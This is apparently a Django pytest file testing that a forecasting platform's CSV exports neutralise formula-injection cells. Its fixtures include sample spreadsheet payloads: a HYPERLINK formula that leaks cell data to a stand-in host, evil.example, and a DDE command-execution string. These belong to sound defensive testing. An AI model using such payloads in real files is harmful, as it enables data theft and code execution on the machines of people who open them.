"""Issue 13, CSV: text cells that a spreadsheet would run as a formula are neutralised.

One rule, ``forecasts.exports.csv_text``, for every CSV Takeoff writes (crowd export, raw
forecasts export, score export, calibration CSV): a text cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a leading ``'``; numbers stay numbers. The data comes in
through the researchers' import, as in the issue: question and forecaster keys of a contest.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from forecasts import exports
from markets.models import Resolution, Tournament
from scoring.models import Score
from scoring.services import question_score
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HYPERLINK_CELL = '"' + HYPERLINK.replace('"', '""') + '"'  # as the researcher's CSV holds it
QUESTIONS = (
    "question,title,resolution,open_time,close_time\n"
    f"{HYPERLINK_CELL},=1+1,YES,2025-01-01T00:00:00Z,2025-01-11T00:00:00Z\n"
    "-5,Minus five,NO,2025-01-01T00:00:00Z,2025-01-11T00:00:00Z\n"
    "+1,Plus one,YES,2025-01-01T00:00:00Z,2025-01-11T00:00:00Z\n"
    "@SUM(A1),At,NO,2025-01-01T00:00:00Z,2025-01-11T00:00:00Z\n"
    "plain,Plain,YES,2025-01-01T00:00:00Z,2025-01-11T00:00:00Z\n"
)
FORECASTERS = ("=cmd|' /C calc'!A0", "-x", "+y", "@z", "alice")
QUESTION_KEYS = {
    HYPERLINK: "'" + HYPERLINK,
    "-5": "'-5",
    "+1": "'+1",
    "@SUM(A1)": "'@SUM(A1)",
    "plain": "plain",
}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-0.5", "'-0.5"),  # as text (a key), not as a number
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", '"\'\rx"'),  # neutralised, then quoted for the line break
        ("=SUM(1,2)", '"\'=SUM(1,2)"'),
        ('=A1&"x"', '"\'=A1&""x"""'),
        ("a=b", "a=b"),
        ("plain", "plain"),
        ("a,b", '"a,b"'),
        ("", ""),
    ],
)
def test_csv_text_neutralises_formula_triggers_then_quotes(text, cell):
    assert exports.csv_text(text) == cell
    # A CSV reader gets the neutralised text back: the quote is the only change.
    read = next(csv.reader(io.StringIO(cell + "\n", newline="")), None) or [""]
    assert read == ["'" + text if text[:1] in "=+-@\t\r" and text else text]


def test_numbers_are_never_neutralised():
    assert exports.csv_number(-0.5) == "-0.5"
    assert exports.csv_number(-3) == "-3"
    assert exports.csv_number(None) == ""


@pytest.fixture
def contest(tmp_path, monkeypatch) -> Tournament:
    """A researcher's contest whose keys start with formula characters, imported, resolved and
    scored (scoring run in-process for each final resolution)."""
    monkeypatch.setattr("scoring.receivers.schedule_scoring", lambda **kw: None)
    q, f = tmp_path / "questions.csv", tmp_path / "forecasts.csv"
    q.write_text(QUESTIONS)
    rows = ["forecaster,question,probability,time"]
    for i, who in enumerate(FORECASTERS):
        for j, key in enumerate(QUESTION_KEYS):
            p = round(0.1 + 0.15 * ((i + j) % 6), 2)
            name = '"' + who.replace('"', '""') + '"' if "," in who or '"' in who else who
            cell = '"' + key.replace('"', '""') + '"' if "," in key or '"' in key else key
            rows.append(f"{name},{cell},{p},2025-01-0{2 + i}T00:00:00Z")
    f.write_text("\n".join(rows) + "\n")
    call_command(
        "import_forecasts",
        "--tournament",
        "formulas",
        "--questions",
        str(q),
        "--forecasts",
        str(f),
        "--no-progress",
        stdout=io.StringIO(),
    )
    tournament = Tournament.objects.get(slug="formulas")
    for r in Resolution.objects.filter(question__tournament=tournament, state="final"):
        question_score(question_id=r.question_id, resolution_id=r.pk)
    # Scored "a minute ago": the score export covers scores computed by its as_of (now - 1 s).
    Score.objects.filter(question__tournament=tournament).update(
        computed_at=timezone.now() - dt.timedelta(minutes=1)
    )
    return tournament


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def test_the_crowd_export_neutralises_question_keys_and_still_verifies(contest, tmp_path):
    out = tmp_path / "crowd.csv"
    call_command(
        "export_crowd",
        "--tournament",
        "formulas",
        "--format",
        "csv",
        "--output",
        str(out),
        "--as-of",
        "2025-02-01T00:00:00Z",
        "--no-progress",
        stdout=io.StringIO(),
    )
    rows = read_csv(out.read_bytes())
    assert {r["question"] for r in rows} == set(QUESTION_KEYS.values())
    assert all(float(r["probability"]) > 0 for r in rows)
    # The manifest digests the bytes written, and a recompute writes the same bytes.
    manifest = json.loads(exports.manifest_path(out).read_text())
    assert manifest["output"]["sha256"] == exports.sha256_file(out)
    assert manifest["questions"] == sorted(QUESTION_KEYS)  # the keys themselves, unchanged
    report = io.StringIO()
    call_command("verify_export", str(exports.manifest_path(out)), "--no-progress", stdout=report)
    assert report.getvalue().startswith("MATCH")
    # JSON and Parquet carry the keys as they are: the rule is about spreadsheets reading CSV.
    js = tmp_path / "crowd.json"
    call_command(
        "export_crowd",
        *("--tournament", "formulas", "--format", "json", "--output", str(js)),
        *("--as-of", "2025-02-01T00:00:00Z", "--no-progress"),
        stdout=io.StringIO(),
    )
    assert {r["question"] for r in json.loads(js.read_text())} == set(QUESTION_KEYS)


def test_the_api_crowd_export_is_the_same_file(contest, tmp_path):
    out = tmp_path / "crowd.csv"
    call_command(
        "export_crowd",
        *("--tournament", "formulas", "--format", "csv", "--output", str(out)),
        *("--as-of", "2025-02-01T00:00:00Z", "--no-progress"),
        stdout=io.StringIO(),
    )
    client = Client()  # full resolution, as the command writes (docs/privacy.md)
    client.force_login(UserFactory(username="staff", is_staff=True))
    r = client.get(
        "/api/v1/tournaments/formulas/crowd-export/",
        {"format": "csv", "as_of": "2025-02-01T00:00:00Z"},
    )
    assert r.status_code == 200
    assert b"".join(r.streaming_content) == out.read_bytes()


def test_the_raw_forecasts_export_neutralises_question_and_forecaster_keys(contest):
    client = Client()
    client.force_login(UserFactory(username="staff", is_staff=True))
    r = client.get("/api/v1/tournaments/formulas/forecasts-export/")
    assert r.status_code == 200
    rows = read_csv(b"".join(r.streaming_content))
    assert len(rows) == len(FORECASTERS) * len(QUESTION_KEYS)
    assert {r["question"] for r in rows} == set(QUESTION_KEYS.values())
    assert {r["forecaster"] for r in rows} == {
        "'=cmd|' /C calc'!A0",
        "'-x",
        "'+y",
        "'@z",
        "alice",
    }
    assert {r["kind"] for r in rows} == {"forecast"}


def test_the_score_export_neutralises_text_cells_and_keeps_negative_scores_numbers(
    contest, tmp_path
):
    out = tmp_path / "scores.csv"
    call_command(
        "export_scores", "--tournament", "formulas", "--output", str(out), stdout=io.StringIO()
    )
    data = out.read_bytes()
    rows = read_csv(data)
    assert {r["question"] for r in rows} == set(QUESTION_KEYS.values())
    assert {r["forecaster"] for r in rows} == {
        "",
        "'=cmd|' /C calc'!A0",
        "'-x",
        "'+y",
        "'@z",
        "alice",
    }
    negative = [r["score"] for r in rows if r["score"].startswith("-")]
    assert negative, "peer scores below the crowd are negative numbers"
    assert all(float(value) < 0 for value in negative)  # numbers, not "'-0.12"
    assert not any(r["score"].startswith("'") or r["coverage"].startswith("'") for r in rows)
    # The API serves the same bytes (to staff: individual scores are research data).
    client = Client()
    client.force_login(UserFactory(username="staff", is_staff=True))
    r = client.get("/api/v1/tournaments/formulas/scores-export/")
    assert b"".join(r.streaming_content) == data


def test_the_calibration_csv_writes_numbers_as_numbers(contest):
    r = Client().get("/api/v1/tournaments/formulas/calibration/?format=csv&subject=forecasters")
    assert r.status_code == 200
    lines = r.content.decode().splitlines()
    assert lines[0] == "lower,upper,count,mean_forecast,observed_frequency,wilson_low,wilson_high"
    cells = [cell for line in lines[1:] for cell in line.split(",")]
    assert cells and all(cell == "" or float(cell) >= 0 for cell in cells)
    assert sum(int(line.split(",")[2]) for line in lines[1:]) == 25
